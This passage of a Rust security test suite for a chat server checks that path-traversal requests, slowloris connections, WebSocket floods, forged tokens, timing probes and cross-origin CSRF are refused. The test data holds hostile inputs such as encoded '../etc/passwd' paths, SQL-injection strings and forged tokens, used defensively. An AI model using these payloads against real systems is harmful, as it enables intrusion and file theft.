    assert!(csp.contains("object-src 'none'"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(r.headers()["x-frame-options"], "DENY");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    let html = r.text().await.unwrap();
    assert!(
        !html.contains("<script>") && !html.to_lowercase().contains("onload="),
        "no inline script in the shell"
    );
    // The UI source never hands text to an HTML sink, in any folder: Markdown becomes DOM only
    // through the sanitiser (web/src/markdown/sanitize.ts), which returns a document fragment.
    let mut dirs = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("web/src")];
    let mut scanned = 0;
    while let Some(dir) = dirs.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                dirs.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            scanned += 1;
            for sink in [
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "dangerouslySetInnerHTML",
                "document.write",
                "eval(",
                "new Function(",
            ] {
                assert!(!text.contains(sink), "{} uses {sink}", path.display());
            }
        }
    }
    assert!(scanned > 0, "web/src was scanned");
}

// ---------------------------------------------------------------------------------------------
// Static files: path traversal
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn path_traversal_on_asset_routes_gets_404_and_never_a_file() {
    let app = spawn_app().await;
    let shell = app.get("/", None).await.bytes().await.unwrap().to_vec();
    let under_assets = [
        "/assets/../Cargo.toml",
        "/assets/../../Cargo.toml",
        "/assets/..%2fCargo.toml",
        "/assets/..%2f..%2fetc%2fpasswd",
        "/assets/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/assets/%2e%2e/Cargo.toml",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "/assets/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/assets/%252e%252e%252fCargo.toml",
        "/assets/..%5c..%5cCargo.toml",
        "/assets/....//....//etc/passwd",
        "/assets/.%2e/.%2e/Cargo.toml",
        "/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/assets//etc/passwd",
        "/assets/%2fetc%2fpasswd",
        "/assets/index.html/../../src/main.rs",
        "/assets/./../Cargo.toml",
        "/assets/Cargo.toml%00.js",
        "/assets/..;/Cargo.toml",
        "/assets/../web/dist/index.html",
        "/assets/",
    ];
    for path in under_assets {
        for method in ["GET", "HEAD"] {
            let r = raw_http(
                app.port,
                format!(
                    "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nConnection: close\r\n\r\n",
                    app.port
                )
                .into_bytes(),
            )
            .await;
            assert_eq!(r.status, 404, "{method} {path}: {}", r.text());
            if method == "GET" {
                assert_eq!(r.json()["error"]["code"], "not_found", "{path}");
            }
            assert_no_file(&r.body, path);
        }
    }
    // Absolute-form request targets are routed by their path, too.
    let r = raw_http(
        app.port,
        format!(
            "GET http://127.0.0.1:{0}/assets/../Cargo.toml HTTP/1.1\r\nHost: 127.0.0.1:{0}\r\nConnection: close\r\n\r\n",
            app.port
        )
        .into_bytes(),
    )
    .await;
    assert_eq!(r.status, 404);
    assert_no_file(&r.body, "absolute form");
    // Elsewhere: a JSON 404 or the UI shell, never a file from disk.
    for path in [
        "/../Cargo.toml",
        "/..%2fCargo.toml",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/favicon.svg/../../Cargo.toml",
        "/favicon.ico%2f..%2f..%2fCargo.toml",
        "/api/../Cargo.toml",
        "/api/..%2f..%2fetc%2fpasswd",
        "/ws/../Cargo.toml",
        "//etc/passwd",
        "/src/main.rs",
        "/Cargo.toml",
        "/.env",
        "/.git/config",
        "/web/dist/index.html",
    ] {
        let r = raw_http(
            app.port,
            format!(
                "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nConnection: close\r\n\r\n",
                app.port
            )
            .into_bytes(),
        )
        .await;
        assert_no_file(&r.body, path);
        match r.status {
            404 => assert_eq!(r.json()["error"]["code"], "not_found", "{path}"),
            200 => assert_eq!(r.body, shell, "{path}: 200 only for the UI shell"),
            400 => {} // refused by the HTTP parser itself
            other => panic!("{path}: {other} {}", r.text()),
        }
    }
    // Real embedded files still work.
    for path in emergence::assets::embedded_paths()
        .into_iter()
        .filter(|p| p.starts_with("/assets/") || p.starts_with("/favicon"))
    {
        let r = app.get(path, None).await;
        assert_eq!(r.status(), 200, "{path}");
    }
}

fn assert_no_file(body: &[u8], what: &str) {
    let text = String::from_utf8_lossy(body);
    for marker in [
        "[package]",
        "root:x:0",
        "fn main(",
        "[core]",
        "DATABASE_URL=",
    ] {
        assert!(!text.contains(marker), "{what} leaked a file: {marker}");
    }
}

// ---------------------------------------------------------------------------------------------
// Slow and silent connections
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_slowloris_client_dribbling_headers_byte_by_byte_is_closed_within_10_seconds() {
    let app = spawn_app().await;
    let header = format!(
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nUser-Agent: slowloris\r\nX-Padding: ",
        app.port
    );
    let closed_after = dribble(app.port, header.into_bytes(), Duration::from_millis(200)).await;
    assert!(
        closed_after.is_some_and(|d| d < Duration::from_secs(10)),
        "the server kept a dribbling client for {closed_after:?}"
    );
    assert_eq!(app.get("/healthz", None).await.status(), 200);
}

#[tokio::test]
async fn a_slowloris_client_dribbling_the_http2_preface_is_closed_within_10_seconds() {
    let app = spawn_app().await;
    // The bytes an HTTP/2 client starts with, then a never-ending SETTINGS frame: every byte is
    // a valid continuation, so only a deadline can end it.
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend_from_slice(&[0, 0, 6, 4, 0, 0, 0, 0, 0]);
    bytes.extend_from_slice(&[0u8; 64]);
    let closed_after = dribble(app.port, bytes, Duration::from_millis(400)).await;
    assert!(
        closed_after.is_some_and(|d| d < Duration::from_secs(10)),
        "the server kept a dribbling HTTP/2 client for {closed_after:?}"
    );
}

#[tokio::test]
async fn many_silent_connections_from_one_ip_do_not_lock_out_a_normal_client() {
    let app = spawn_app().await;
    let silent = open_silent(app.port, 200).await;
    assert_eq!(silent.len(), 200);
    let started = Instant::now();
    let r = app.get("/healthz", None).await;
    assert_eq!(r.status(), 200);
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let thread = app.create_thread(&alice, "still here").await;
    app.add_member(&alice, &thread, "bob").await;
    let mut a = app.ws(&alice).await;
    let mut b = app.ws(&bob).await;
    b.subscribe(&thread, None).await;
    a.send_message(&thread, "m1", "hello through the crowd")
        .await;
    assert_eq!(a.recv_type("ack").await["status"], "persisted");
    assert_eq!(
        b.recv_type("message").await["body"],
        "hello through the crowd"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "a normal client waited {:?}",
        started.elapsed()
    );
    drop(silent);
}

#[tokio::test]
async fn silent_connections_are_closed_by_the_server_within_about_10_seconds() {
    let app = spawn_app().await;
    let started = Instant::now();
    let silent = open_silent(app.port, 200).await;
    let deadline = started + Duration::from_secs(12);
    let waits = silent.into_iter().map(|mut s| async move {
        let mut buf = [0u8; 64];
        matches!(
            tokio::time::timeout_at(deadline.into(), s.read(&mut buf)).await,
            Ok(Ok(0) | Err(_))
        )
    });
    let closed = futures_util::future::join_all(waits)
        .await
        .into_iter()
        .filter(|c| *c)
        .count();
    assert_eq!(
        closed, 200,
        "only {closed} of 200 silent connections were closed within 12 s"
    );
}

// ---------------------------------------------------------------------------------------------
// WebSocket floods and bad frames
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn websocket_connection_floods_from_one_ip_get_503_with_retry_after_before_the_upgrade() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let mut open = app.ws(&alice).await; // one token of the burst
    let mut upgraded = 1;
    let mut refusal = None;
    for _ in 0..300 {
        match tokio_tungstenite::connect_async(app.ws_url()).await {
            Ok((mut ws, _)) => {
                upgraded += 1;
                let _ = ws.close(None).await;
            }
            Err(tungstenite::Error::Http(resp)) => {
                refusal = Some(resp);
                break;
            }
            Err(e) => panic!("unexpected {e}"),
        }
    }
    let resp = refusal.expect("the flood was never refused");
    assert!(
        (100..=130).contains(&upgraded),
        "a burst of 100 is allowed, then refused; upgraded {upgraded}"
    );
    assert_eq!(resp.status(), 503);
    let retry: u64 = resp.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(retry >= 1);
    let body: Value = serde_json::from_slice(resp.body().as_deref().unwrap_or_default()).unwrap();
    assert_eq!(body["error"]["code"], "unavailable");
    // Still refused right away; HTTP and existing sockets are unaffected.
    match tokio_tungstenite::connect_async(app.ws_url()).await {
        Err(tungstenite::Error::Http(r)) => assert_eq!(r.status(), 503),
        other => panic!("expected 503, got {:?}", other.map(|_| "upgrade")),
    }
    assert_eq!(app.get("/healthz", None).await.status(), 200);
    assert_eq!(app.get("/api/me", Some(&alice.token)).await.status(), 200);
    assert_pong(&mut open, "existing socket").await;
}

#[tokio::test]
async fn a_client_flooding_messages_gets_rate_limited_frames_with_retry_after_then_close_1008() {
    let app = spawn_app().await;
    let mallory = app.register("mallory").await;
    let thread = app.create_thread(&mallory, "flood").await;
    let alice = app.register("alice").await;
    let calm = app.create_thread(&alice, "calm").await;
    let mut a = app.ws(&alice).await;
    let mut ws = app.ws(&mallory).await;
    let (limited, acked, close) = flood_counting_acks(&mut ws, &thread, 400).await;
    assert!(limited > 0, "no rate_limited frames");
    assert_eq!(close, Some(1008));
    // Every acknowledged message is stored exactly once (the writer may still be finishing the
    // burst), and nothing that was refused is stored.
    let deadline = Instant::now() + Duration::from_secs(10);
    let stored = loop {
        let stored = app.messages(&mallory, &thread, "?limit=500").await;
        if stored.len() >= acked.len() || Instant::now() > deadline {
            break stored;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let ids: Vec<&str> = stored
        .iter()
        .map(|m| m["client_id"].as_str().unwrap())
        .collect();
    let unique: std::collections::HashSet<&str> = ids.iter().copied().collect();
    assert_eq!(unique.len(), ids.len(), "stored twice");
    for cid in &acked {
        assert!(
            unique.contains(cid.as_str()),
            "{cid} was acknowledged but not stored"
        );
    }
    assert!(
        stored.len() <= 400 - limited,
        "{} stored, {limited} refused",
        stored.len()
    );
    eprintln!(
        "flood: {limited} refused, {} acknowledged, {} stored",
        acked.len(),
        stored.len()
    );
    a.send_message(&calm, "calm-1", "unaffected").await;
    assert_eq!(a.recv_type("ack").await["status"], "persisted");
}

#[tokio::test]
async fn invalid_utf8_in_text_frames_closes_with_1007() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let cases: Vec<(&str, Vec<Vec<u8>>)> = vec![
        (
            "bad bytes",
            vec![b"{\"type\":\"ping\",\"nonce\":\"\xff\xfe\"}".to_vec()],
        ),
        (
            "overlong '/'",
            vec![b"{\"type\":\"ping\",\"nonce\":\"\xc0\xaf\"}".to_vec()],
        ),
        (
            "UTF-16 surrogate",
            vec![b"{\"type\":\"ping\",\"nonce\":\"\xed\xa0\x80\"}".to_vec()],
        ),
        ("beyond U+10FFFF", vec![b"\xf4\x90\x80\x80".to_vec()]),
        (
            "invalid across fragments",
            vec![
                b"{\"type\":\"ping\",\"nonce\":\"\xe2\x82".to_vec(),
                b"(\"}".to_vec(),
            ],
        ),
    ];
    for (what, parts) in cases {
        let mut ws = app.ws(&alice).await;
        let n = parts.len();
        for (i, part) in parts.into_iter().enumerate() {
            let opcode = if i == 0 {
                OpCode::Data(Data::Text)
            } else {
                OpCode::Data(Data::Continue)
            };
            let frame = Frame::message(part, opcode, i + 1 == n);
            ws.send_raw(Message::Frame(frame)).await.unwrap();
        }
        assert_eq!(ws.close_code().await, Some(1007), "{what}");
    }
}

#[tokio::test]
async fn text_frames_over_256_kib_close_with_1009_and_exactly_256_kib_is_accepted() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let mut ws = app.ws(&alice).await;
    let exact = ping_of_size(MAX_FRAME, "exact");
    assert_eq!(exact.len(), MAX_FRAME);
    ws.send_raw(Message::Text(exact.into())).await.unwrap();
    let pong = ws.recv().await.expect("a frame of exactly 256 KiB is read");
    assert_eq!(pong["type"], "pong");
    assert_eq!(
        pong["nonce"].as_str().unwrap().len(),
        MAX_FRAME - r#"{"type":"ping","nonce":""}"#.len()
    );
    // A message of exactly 256 KiB sent in fragments is accepted too.
    let exact = ping_of_size(MAX_FRAME, "fragments").into_bytes();
    send_fragmented(&mut ws, exact, 3).await;
    assert_eq!(ws.recv().await.expect("fragmented 256 KiB")["type"], "pong");
    // One byte more: 1009.
    let over = ping_of_size(MAX_FRAME + 1, "over");
    let _ = ws.send_raw(Message::Text(over.into())).await;
    assert_eq!(ws.close_code().await, Some(1009));
    // One byte more, in fragments each well under the limit: 1009 as well.
    let mut ws = app.ws(&alice).await;
    send_fragmented(
        &mut ws,
        ping_of_size(MAX_FRAME + 1, "split").into_bytes(),
        4,
    )
    .await;
    assert_eq!(ws.close_code().await, Some(1009));
}

#[tokio::test]
async fn unknown_and_malformed_frame_types_get_unknown_type_and_the_connection_stays_open() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let mut ws = app.ws(&alice).await;
    let long_type = "x".repeat(100_000);
    let cases = [
        json!({"type": "teleport"}),
        json!({"type": "SEND"}),
        json!({"type": "send "}),
        json!({"type": " ping"}),
        json!({"type": ""}),
        json!({"type": "__proto__"}),
        json!({"type": "constructor"}),
        json!({"type": "ping\u{0}"}),
        json!({"type": "'; DROP TABLE messages; --"}),
        json!({"type": "<script>alert(1)</script>"}),
        json!({"type": null}),
        json!({"type": 1}),
        json!({"type": ["ping"]}),
        json!({"type": {"ping": true}}),
        json!({"kind": "ping"}),
        json!({}),
        json!({"type": long_type}),
        json!({"type": "nope", "client_id": "echoed"}),
    ];
    for frame in cases {
        let shown: String = frame.to_string().chars().take(60).collect();
        ws.send(frame.clone()).await;
        let e = ws
            .recv()
            .await
            .unwrap_or_else(|| panic!("no answer to {shown}"));
        assert_eq!(
            (e["type"].as_str(), e["code"].as_str()),
            (Some("error"), Some("unknown_type")),
            "{shown}: {e}"
        );
        let message = e["message"].as_str().unwrap();
        assert!(
            message.len() < 512,
            "the error does not echo the whole frame back"
        );
        if frame["client_id"] == "echoed" {
            assert_eq!(e["client_id"], "echoed");
        }
    }
    assert_pong(&mut ws, "after unknown types").await;
}

// ---------------------------------------------------------------------------------------------
// Tokens
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn tampered_forged_and_garbage_tokens_get_401_and_close_4401() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let (payload, sig) = split_token(&alice.token);
    let claims: Value = serde_json::from_slice(&B64.decode(payload).unwrap()).unwrap();
    let with_claims = |c: &Value| B64.encode(serde_json::to_vec(c).unwrap());

    let mut as_bob = claims.clone();
    as_bob["uid"] = json!(bob.id);
    as_bob["name"] = json!("bob");
    let mut forever = claims.clone();
    forever["exp"] = json!(i64::MAX);
    let mut flipped_sig = sig.to_string();
    let last = flipped_sig.pop().unwrap();
    flipped_sig.push(if last == 'A' { 'B' } else { 'A' });
    let other_key = emergence::auth::SigningKey::new(b"a guessed key".to_vec())
        .sign(&serde_json::from_value::<emergence::auth::Claims>(claims.clone()).unwrap());
    let empty_key = emergence::auth::SigningKey::new(Vec::new())
        .sign(&serde_json::from_value::<emergence::auth::Claims>(as_bob.clone()).unwrap());
    let tokens = vec![
        ("signature flipped", format!("v1.{payload}.{flipped_sig}")),
        (
            "claims changed to bob",
            format!("v1.{}.{sig}", with_claims(&as_bob)),
        ),
        (
            "expiry extended",
            format!("v1.{}.{sig}", with_claims(&forever)),
        ),
        ("signed with another key", other_key),
        ("signed with an empty key", empty_key),
        ("no signature", format!("v1.{payload}.")),
        ("no signature part", format!("v1.{payload}")),
        ("other version", format!("v2.{payload}.{sig}")),
        ("extra part", format!("v1.{payload}.{sig}.x")),
        ("padded base64", format!("v1.{payload}==.{sig}")),
        ("alg none style", format!("v1.{}.", with_claims(&as_bob))),
        ("empty", String::new()),
        ("garbage", "garbage".into()),
        ("long garbage", "A".repeat(8_000)),
        ("sql", "' OR '1'='1".into()),
    ];
    for (what, token) in &tokens {
        let r = app
            .http
            .get(app.url("/api/me"))
            .header("authorization", format!("Bearer {token}"))
            .send()
            .await
            .unwrap();
        let status = r.status().as_u16();
        let v: Value = r.json().await.unwrap();
        assert_eq!(
            (status, v["error"]["code"].as_str()),
            (401, Some("unauthorized")),
            "{what}: {v}"
        );
        if token.is_empty() || token.contains(' ') || token.contains('\'') {
            continue;
        }
        let mut ws = WsClient::connect(&format!("{}?token={token}", app.ws_url()))
            .await
            .unwrap();
        let e = ws.recv().await.expect("an error frame");
        assert_eq!(
            (e["type"].as_str(), e["code"].as_str()),
            (Some("error"), Some("unauthorized")),
            "{what}"
        );
        assert_eq!(ws.close_code().await, Some(4401), "{what}");
    }
    // Other schemes and shapes of Authorization are refused, and the first credential decides.
    for header in [
        "Basic YWxpY2U6cGFzcw==",
        "Bearer",
        "Bearer  ",
        "Token abc",
        "Bearer a b",
    ] {
        let r = app
            .http
            .get(app.url("/api/me"))
            .header("authorization", header)
            .header("cookie", format!("emergence_session={}", alice.token))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401, "{header}");
    }
    let r = app
        .http
        .get(app.url("/api/me"))
        .bearer_auth(&alice.token)
        .header("cookie", "emergence_session=garbage")
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        200,
        "a good Authorization decides over a bad cookie"
    );
    // No data was written by any forged token.
    let list: Value = app
        .get("/api/threads", Some(&bob.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"], json!([]));
}

#[tokio::test]
async fn expired_tokens_get_401_over_http_and_close_4401_over_websocket() {
    let app = spawn_app_with(|s| s.auth.token_ttl_secs = 1).await;
    let alice = app.register("alice").await;
    let issued = Instant::now();
    // A socket opened with the fresh token is closed when it expires (or at once if it already
    // has): an `unauthorized` error frame, then 4401.
    let mut ws = WsClient::connect(&format!("{}?token={}", app.ws_url(), alice.token))
        .await
        .unwrap();
    let mut saw_unauthorized = false;
    while let Some(f) = ws.recv().await {
        if f["type"] == "error" {
            assert_eq!(f["code"], "unauthorized");
            saw_unauthorized = true;
        }
    }
    let closed_at = issued.elapsed();
    assert!(saw_unauthorized);
    assert_eq!(
        ws.closed.clone().flatten().map(|c| u16::from(c.code)),
        Some(4401)
    );
    assert!(
        closed_at < Duration::from_secs(4),
        "closed {closed_at:?} after issue"
    );
    tokio::time::sleep(Duration::from_millis(1_100).saturating_sub(issued.elapsed())).await;
    // HTTP, bearer and cookie.
    let r = app.get("/api/me", Some(&alice.token)).await;
    assert_eq!(r.status(), 401);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"]["code"],
        "unauthorized"
    );
    let r = app
        .http
        .get(app.url("/api/threads"))
        .header("cookie", format!("emergence_session={}", alice.token))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = app
        .post("/api/threads", Some(&alice.token), json!({"title": "late"}))
        .await;
    assert_eq!(r.status(), 401);
    // A new socket: the upgrade completes, then error `unauthorized` and close 4401.
    let mut ws = WsClient::connect(&format!("{}?token={}", app.ws_url(), alice.token))
        .await
        .unwrap();
    let e = ws.recv().await.unwrap();
    assert_eq!(
        (e["type"].as_str(), e["code"].as_str()),
        (Some("error"), Some("unauthorized"))
    );
    assert_eq!(ws.close_code().await, Some(4401));
}

#[tokio::test]
async fn revoked_tokens_get_401_and_their_sockets_close_4401_within_5_seconds() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "alice", "password": "correct horse battery"}),
        )
        .await;
    let second: String = r.json::<Value>().await.unwrap()["token"]
        .as_str()
        .unwrap()
        .into();
    let mut ws = app.ws(&alice).await;
    let mut other = WsClient::connect(&format!("{}?token={second}", app.ws_url()))
        .await
        .unwrap();
    assert_eq!(other.recv().await.unwrap()["type"], "welcome");
    let started = Instant::now();
    let out = app
        .post("/api/auth/logout", Some(&alice.token), json!({}))
        .await;
    assert_eq!(out.status(), 204);
    let e = ws.recv_type("error").await;
    assert_eq!(e["code"], "unauthorized");
    assert_eq!(ws.close_code().await, Some(4401));
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(app.get("/api/me", Some(&alice.token)).await.status(), 401);
    // Other sessions of the same user are untouched.
    assert_eq!(app.get("/api/me", Some(&second)).await.status(), 200);
    assert_pong(&mut other, "other session").await;
    let mut again = WsClient::connect(&format!("{}?token={}", app.ws_url(), alice.token))
        .await
        .unwrap();
    assert_eq!(again.recv().await.unwrap()["code"], "unauthorized");
    assert_eq!(again.close_code().await, Some(4401));
}

// ---------------------------------------------------------------------------------------------
// Authorization: guessed IDs and timing
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn guessed_thread_ids_get_the_same_404_as_missing_threads_everywhere() {
    let app = spawn_app().await;
    let owner = app.register("owner").await;
    let stranger = app.register("stranger").await;
    let thread = app.create_thread(&owner, "secret").await;
    app.post(
        &format!("/api/threads/{thread}/messages"),
        Some(&owner.token),
        json!({"client_id": "s1", "body": "the secret"}),
    )
    .await;
    let missing = uuid::Uuid::now_v7().to_string();
    let long = "9".repeat(4_000);
    let odd_ids = [
        thread.clone(),
        missing,
        thread.to_uppercase(),
        format!("{thread} "),
        "0".into(),
        "1".into(),
        "-1".into(),
        "%27%20OR%20%271%27%3D%271".into(),
        "%2e%2e".into(),
        "00000000-0000-0000-0000-000000000000".into(),
        long,
        "%E2%80%AE".into(),
    ];
    let not_found = json!({"error": {"code": "not_found", "message": "not found"}});
    for id in &odd_ids {
        let checks = [
            app.get(&format!("/api/threads/{id}"), Some(&stranger.token))
                .await,
            app.get(
                &format!("/api/threads/{id}/messages"),
                Some(&stranger.token),
            )
            .await,
            app.get(
                &format!("/api/threads/{id}/messages?after_seq=0"),
                Some(&stranger.token),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/messages"),
                Some(&stranger.token),
                json!({"client_id": "x", "body": "hi"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/members"),
                Some(&stranger.token),
                json!({"username": "stranger"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/debate"),
                Some(&stranger.token),
                json!({"client_id": "d", "topic": "t", "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await,
        ];
        for r in checks {
            let url = r.url().path().to_string();
            assert_eq!(r.status(), 404, "{url}");
            assert_eq!(r.json::<Value>().await.unwrap(), not_found, "{url}");
        }
    }
    let mut ws = app.ws(&stranger).await;
    for id in odd_ids.iter().take(2) {
        ws.send(json!({"type": "subscribe", "thread": id, "after_seq": 0}))
            .await;
        assert_eq!(ws.recv().await.unwrap()["code"], "not_found");
        ws.send(json!({"type": "send", "thread": id, "client_id": "c", "body": "hi"}))
            .await;
        assert_eq!(ws.recv().await.unwrap()["code"], "not_found");
        ws.send(
            json!({"type": "debate", "thread": id, "client_id": "d", "topic": "t",
                       "agents": ["anima", "neo"], "rounds": 1}),
        )
        .await;
        assert_eq!(ws.recv().await.unwrap()["code"], "not_found");
    }
    let stored = app.messages(&owner, &thread, "").await;
    assert_eq!(stored.len(), 1, "the stranger stored nothing");
    let list: Value = app
        .get("/api/threads", Some(&stranger.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"], json!([]));
}

#[tokio::test]
async fn a_stranger_cannot_tell_a_real_thread_from_a_missing_one_by_timing() {
    let app = spawn_app().await;
    let owner = app.register("owner").await;
    let stranger = app.register("stranger").await;
    let thread = app.create_thread(&owner, "secret").await;
    for i in 0..20 {
        app.post(
            &format!("/api/threads/{thread}/messages"),
            Some(&owner.token),
            json!({"client_id": format!("m{i}"), "body": "content"}),
        )
        .await;
    }
    let time = |id: String| {
        let app = &app;
        let token = stranger.token.clone();
        async move {
            let started = Instant::now();
            let r = app.get(&format!("/api/threads/{id}"), Some(&token)).await;
            let elapsed = started.elapsed();
            assert_eq!(r.status(), 404);
            let _ = r.bytes().await;
            elapsed
        }
    };
    for _ in 0..5 {
        time(thread.clone()).await;
        time(uuid::Uuid::now_v7().to_string()).await;
    }
    let (mut real, mut missing) = (Vec::new(), Vec::new());
    for i in 0..50 {
        // Interleaved, alternating which goes first, so background noise hits both alike.
        if i % 2 == 0 {
            real.push(time(thread.clone()).await);
            missing.push(time(uuid::Uuid::now_v7().to_string()).await);
        } else {
            missing.push(time(uuid::Uuid::now_v7().to_string()).await);
            real.push(time(thread.clone()).await);
        }
    }
    let (r, m) = (median(&mut real), median(&mut missing));
    assert!(
        within(r, m, 3.0, Duration::from_millis(20)),
        "stranger on a real thread: median {r:?}; missing thread: median {m:?}"
    );
}

#[tokio::test]
async fn login_timing_does_not_reveal_whether_a_username_exists() {
    let app = spawn_app_with(|s| {
        s.limits.auth_rate_per_min = 0;
        s.limits.failed_logins_per_user = 0;
    })
    .await;
    app.register("alice").await;
    let login = |username: &'static str| {
        let app = &app;
        async move {
            let started = Instant::now();
            let r = app
                .post(
                    "/api/auth/login",
                    None,
                    json!({"username": username, "password": "not the password"}),
                )
                .await;
            let elapsed = started.elapsed();
            assert_eq!(r.status(), 401, "{username}");
            assert_eq!(
                r.json::<Value>().await.unwrap(),
                json!({"error": {"code": "unauthorized", "message": "wrong username or password"}})
            );
            elapsed
        }
    };
    for _ in 0..2 {
        login("alice").await;
        login("nobody_here").await;
    }
    let (mut existing, mut unknown) = (Vec::new(), Vec::new());
    for i in 0..15 {
        if i % 2 == 0 {
            existing.push(login("alice").await);
            unknown.push(login("nobody_here").await);
        } else {
            unknown.push(login("nobody_here").await);
            existing.push(login("alice").await);
        }
    }
    let (e, u) = (median(&mut existing), median(&mut unknown));
    assert!(
        within(e, u, 2.0, Duration::ZERO),
        "existing user, wrong password: median {e:?}; unknown user: median {u:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// CSRF: cookies from foreign origins
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn cookie_requests_from_a_foreign_origin_cannot_change_state_but_can_still_read() {
    let app = spawn_app().await;
    let r = app
        .post(
            "/api/auth/register",
            None,
            json!({"username": "carol", "password": "correct horse battery"}),
        )
        .await;
    let set_cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Lax"));
    let cookie = set_cookie.split(';').next().unwrap().to_string();
    let token = cookie.trim_start_matches("emergence_session=").to_string();
    let thread = {
        let r = app
            .post("/api/threads", Some(&token), json!({"title": "mine"}))
            .await;
        r.json::<Value>().await.unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    app.register("dave").await;
    let foreign = [
        "https://evil.example".to_string(),
        "null".into(),
        format!("http://127.0.0.1:{}.evil.example", app.port),
        format!("http://evil.example/127.0.0.1:{}", app.port),
        format!("http://localhost:{}", app.port),
        "http://127.0.0.1:1".into(),
        format!("ftp://127.0.0.1:{}", app.port),
    ];
    let writes: Vec<(String, Value)> = vec![
        ("/api/threads".into(), json!({"title": "csrf"})),
        (
            format!("/api/threads/{thread}/messages"),
            json!({"client_id": "csrf", "body": "csrf"}),
        ),
        (
            format!("/api/threads/{thread}/members"),
            json!({"username": "dave"}),
        ),
        (
            format!("/api/threads/{thread}/debate"),
            json!({"client_id": "csrf-d", "topic": "t", "agents": ["anima", "neo"], "rounds": 1}),
        ),
        ("/api/auth/logout".into(), json!({})),
    ];
    for origin in &foreign {
        for (path, body) in &writes {
            let r = app
                .http
                .post(app.url(path))
                .header("cookie", &cookie)
                .header("origin", origin)
                .json(body)
                .send()
                .await
                .unwrap();
            let status = r.status().as_u16();
            let v: Value = r.json().await.unwrap();
            assert_eq!(
                (status, v["error"]["code"].as_str()),
                (403, Some("forbidden")),
                "{origin} {path}: {v}"
            );
        }
    }
    // A spoofed X-Forwarded-Host does not make a foreign origin "own" (no trusted proxy).
    let r = app
        .http
        .post(app.url("/api/threads"))
        .header("cookie", &cookie)
        .header("origin", "https://evil.example")
        .header("x-forwarded-host", "evil.example")
        .json(&json!({"title": "csrf"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // Nothing changed, and the session is still alive.
    let list: Value = app
        .http
        .get(app.url("/api/threads"))
        .header("cookie", &cookie)
        .header("origin", "https://evil.example")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"].as_array().unwrap().len(), 1, "GET is fine");
    assert!(
        app.messages(
            &TestUser {
                id: String::new(),
                username: "carol".into(),
                token: token.clone()
            },
            &thread,
            ""
        )
        .await
        .is_empty()
    );
    for path in [
        "/api/me".to_string(),
        format!("/api/threads/{thread}"),
        format!("/api/threads/{thread}/messages"),
    ] {
        let r = app
            .http
            .get(app.url(&path))
            .header("cookie", &cookie)
            .header("origin", "https://evil.example")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{path}");
    }
    // Bearer is never affected; the server's own origin and no Origin are fine with the cookie.
    let r = app
        .http
        .post(app.url("/api/threads"))
        .bearer_auth(&token)
        .header("origin", "https://evil.example")
        .json(&json!({"title": "bearer"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    for origin in [Some(app.address.clone()), None] {
        let mut req = app
            .http
            .post(app.url("/api/threads"))
            .header("cookie", &cookie)
            .json(&json!({"title": "own"}));
        if let Some(o) = &origin {
            req = req.header("origin", o);
        }
        assert_eq!(req.send().await.unwrap().status(), 201, "{origin:?}");
    }
    // WebSocket: a cookie upgrade from a foreign origin is refused before the upgrade; a token
    // in the query or a bearer header is not a cookie.
    for origin in &foreign {
